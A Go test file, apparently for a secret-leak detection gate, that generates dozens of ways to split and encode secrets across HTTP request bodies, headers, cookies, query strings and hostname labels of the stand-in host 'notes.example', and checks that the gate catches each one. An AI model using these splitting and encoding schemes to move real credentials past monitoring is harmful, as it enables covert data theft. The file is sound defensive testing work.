package attack

import (
	"fmt"
	"net/url"
	"slices"
	"strings"
	"testing"
)

// A split is a way to write the pieces of a text so that whoever receives them
// can put them together by the structure of the request alone.
type split struct {
	name  string
	write func(pieces []string) request
}

// pieces cuts s in n of about equal length, or in single characters for 0.
func pieces(s string, n int) []string {
	if n == 0 || n > len(s) {
		n = len(s)
	}
	var out []string
	for i := range n {
		out = append(out, s[i*len(s)/n:(i+1)*len(s)/n])
	}
	return out
}

// joined writes each piece by format, where %d is its number and %s the piece
// as esc writes it.
func joined(ps []string, sep, format string, esc func(string) string) string {
	var out []string
	for i, p := range ps {
		out = append(out, strings.NewReplacer("%d", fmt.Sprint(i), "%L", string(rune('a'+i%26)), "%s", esc(p)).Replace(format))
	}
	return strings.Join(out, sep)
}

// list makes a split of a body in which the pieces stand one behind the other.
func list(name, ctype, sep, each string, esc func(string) string, around string) split {
	return split{name, func(ps []string) request {
		return post(ctype, strings.Replace(around, "%s", joined(ps, sep, each, esc), 1))
	}}
}

var splits = []split{
	list("array", asJSON, ",", "%s", quoted, `{"a":[%s]}`),
	list("array with spaces", asJSON, " ,\n  ", "%s", quoted, `{"a": [ %s ]}`),
	list("array with numbers between", asJSON, ",", "%d,%s", quoted, `{"a":[%s]}`),
	list("array with nulls between", asJSON, ",null,", "%s", quoted, `{"a":[%s]}`),
	list("array with empty strings between", asJSON, `,"",`, "%s", quoted, `{"a":[%s]}`),
	list("array of arrays", asJSON, ",", "[%s]", quoted, `{"a":[%s]}`),
	list("array of pairs", asJSON, ",", `[%d,%s]`, quoted, `{"a":[%s]}`),
	list("object", asJSON, ",", `"k%d":%s`, quoted, `{"o":{%s}}`),
	list("object with words between", asJSON, ",", `"k%d":%s,"t%d":"text"`, quoted, `{"o":{%s}}`),
	list("array of objects", asJSON, ",", `{"p":%s}`, quoted, `{"o":[%s]}`),
	list("array of objects with types", asJSON, ",", `{"type":"text","text":%s}`, quoted, `{"content":[%s]}`),
	list("array of objects with order", asJSON, ",", `{"i":%d,"c":%s}`, quoted, `{"o":[%s]}`),
	list("array of objects with sentences", asJSON, ",", `{"about":"this is a longer text number %d with words","c":%s}`, quoted, `{"o":[%s]}`),
	list("keys", asJSON, ",", `%s:%d`, quoted, `{"o":{%s}}`),
	list("NDJSON", asJSON, "\n", `{"c":%s}`, quoted, "%s\n"),
	list("chat messages", asJSON, ",", `{"role":"user","content":%s}`, quoted, `{"model":"m","messages":[%s]}`),
	{"JSON in JSON", func(ps []string) request {
		return post(asJSON, `{"arguments":`+quoted(`{"parts":[`+joined(ps, ",", "%s", quoted)+`]}`)+`}`)
	}},
	{"JSON in JSON of objects", func(ps []string) request {
		return post(asJSON, `{"arguments":`+quoted(`{"o":{`+joined(ps, ",", `"k%d":%s`, quoted)+`}}`)+`}`)
	}},
	{"deep", func(ps []string) request {
		return post(asJSON, joined(ps, "", `{"v":%s,"n":`, quoted)+"0"+strings.Repeat("}", len(ps)))
	}},
	{"keys and values", func(ps []string) request {
		if len(ps)%2 == 1 {
			ps = append(ps, "")
		}
		var b []string
		for p := range slices.Chunk(ps, 2) {
			b = append(b, quoted(p[0])+":"+quoted(p[1]))
		}
		return post(asJSON, "{"+strings.Join(b, ",")+"}")
	}},
	{"query", func(ps []string) request {
		return get(notes + "?" + joined(ps, "&", "k%d=%s", url.QueryEscape))
	}},
	{"query, one name", func(ps []string) request {
		return get(notes + "?" + joined(ps, "&", "k=%s", url.QueryEscape))
	}},
	{"query, numbered", func(ps []string) request {
		return get(notes + "?" + joined(ps, "&", "i=%d&c=%s", url.QueryEscape))
	}},
	{"query keys", func(ps []string) request { return get(notes + "?" + joined(ps, "&", "%s", url.QueryEscape)) }},
	{"path", func(ps []string) request { return get(notes + "/" + joined(ps, "/", "%s", url.PathEscape)) }},
	{"path and query", func(ps []string) request {
		return get(notes + "/" + url.PathEscape(ps[0]) + "?" + joined(ps[1:], "&", "k%d=%s", url.QueryEscape))
	}},
	{"query and body", func(ps []string) request {
		r := post(asJSON, `{"a":[`+joined(ps[1:], ",", "%s", quoted)+`]}`)
		r.URL += "?k=" + url.QueryEscape(ps[0])
		return r
	}},
	{"headers", func(ps []string) request {
		r := get(notes)
		for i, p := range ps {
			r.Header = append(r.Header, [2]string{fmt.Sprintf("X-Part-%03d", i), p})
		}
		return r
	}},
	{"headers of one name", func(ps []string) request {
		r := get(notes)
		for _, p := range ps {
			r.Header = append(r.Header, [2]string{"X-Part", p})
		}
		return r
	}},
	{"header with commas", func(ps []string) request { return get(notes, [2]string{"X-Part", strings.Join(ps, ", ")}) }},
	{"header and body", func(ps []string) request {
		return post(asJSON, `{"a":[`+joined(ps[1:], ",", "%s", quoted)+`]}`, [2]string{"X-Part", ps[0]})
	}},
	{"cookies", func(ps []string) request {
		return get(notes, [2]string{"Cookie", joined(ps, "; ", "k%d=%s", same)})
	}},
	list("form", asForm, "&", "k%d=%s", url.QueryEscape, "%s"),
	list("form, one name", asForm, "&", "k=%s", url.QueryEscape, "%s"),
	list("form keys", asForm, "&", "%s=1", url.QueryEscape, "%s"),
	{"form keys and values", func(ps []string) request {
		if len(ps)%2 == 1 {
			ps = append(ps, "")
		}
		var b []string
		for p := range slices.Chunk(ps, 2) {
			b = append(b, url.QueryEscape(p[0])+"="+url.QueryEscape(p[1]))
		}
		return post(asForm, strings.Join(b, "&"))
	}},
	{"multipart fields", func(ps []string) request {
		return post("multipart/form-data; boundary=XBX", joined(ps, "", "--XBX\r\nContent-Disposition: form-data; name=\"k%d\"\r\n\r\n%s\r\n", same)+"--XBX--\r\n")
	}},
	{"multipart file names", func(ps []string) request {
		return post("multipart/form-data; boundary=XBX", joined(ps, "", "--XBX\r\nContent-Disposition: form-data; name=\"f\"; filename=\"%s\"\r\n\r\nx\r\n", same)+"--XBX--\r\n")
	}},
	list("XML elements", asXML, "", "<c>%s</c>", xmlText, "<a>%s</a>"),
	list("XML attributes", asXML, "", ` k%d="%s"`, xmlText, "<a%s/>"),
	list("XML marks", asXML, "<!-- -->", "%s", xmlText, "<a>%s</a>"),
	list("XML CDATA", asXML, "", "<![CDATA[%s]]>", same, "<a>%s</a>"),
	list("HTML tags", "text/html", "<b></b>", "%s", xmlText, "<p>%s</p>"),
	list("lines", asText, "\n", "%s", same, "%s\n"),
	list("numbered lines", asText, "\n", "%d. %s", same, "%s\n"),
	list("CSV", "text/csv", ",", "%s", same, "a,b,c\n%s\n"),
	list("CSV rows", "text/csv", "\n", "%d,%s", same, "i,c\n%s\n"),
	list("YAML list", "application/yaml", "\n", "  - %s", same, "a:\n%s\n"),
	list("source", asText, " +\n", "  %s", quoted, "const x = %s;"),
	{"source in JSON", func(ps []string) request {
		return post(asJSON, `{"content":`+quoted("x = "+joined(ps, " + ", "%s", quoted)+"\n")+`}`)
	}},
	list("variables", asText, "\n", "%L%d=%s", quoted, "%s\n"),
}

// codes are encodings of which the pieces are made: of the whole text, or of
// each piece.
var codes = []struct {
	name        string
	whole, each func(string) string
}{
	{"", same, same},
	{"of base64", std64, same},
	{"of hex", hexed, same},
	{"of gzip base64", chain(gzipped, std64), same},
	{"each base64", same, std64},
	{"each with a zero width space", same, func(s string) string { return s + "\u200b" }},
}

func TestSecretIsFoundInPieces(t *testing.T) {
	g := newGate(t, "balanced")
	i, stride := 0, min(sample(), 3)
	if raceEnabled {
		stride = 31
	}
	var tried []cell
	for _, s := range splits {
		for _, c := range codes {
			for _, n := range []int{2, 5, 0} {
				for _, k := range kinds {
					if k.name == "pem" {
						continue // has spaces and pieces too long to be joined; doc of package payload
					}
					if i++; (c.name != "" || raceEnabled) && i%stride != 0 {
						continue
					}
					ps := pieces(c.whole(k.text), n)
					for j := range ps {
						ps[j] = c.each(ps[j])
					}
					name := fmt.Sprintf("in %d %s", n, c.name)
					tried = append(tried, cell{s.name, strings.TrimSpace(name), k.name, fate(try(t, g, s.write(ps)))})
				}
			}
		}
	}
	hold(t, "testdata/open-splits.txt", tried)
}

func TestSecretIsFoundInLabelsOfTheHost(t *testing.T) {
	g := newGate(t, "balanced")
	for _, k := range kinds {
		for name, do := range map[string]func(string) string{
			"hex": hexed, "base32": func(s string) string { return strings.ToLower(strings.TrimRight(std32(s), "=")) },
		} {
			s := do(k.text)
			if len(s) > 200 {
				continue
			}
			for _, size := range []int{60, 30, 16} {
				d := try(t, g, get("https://"+lines(size, ".", s)+".notes.example/"))
				if !caught(d) {
					t.Errorf("%s, %s, labels of %d: %s", k.name, name, size, say(d))
				}
			}
		}
	}
}
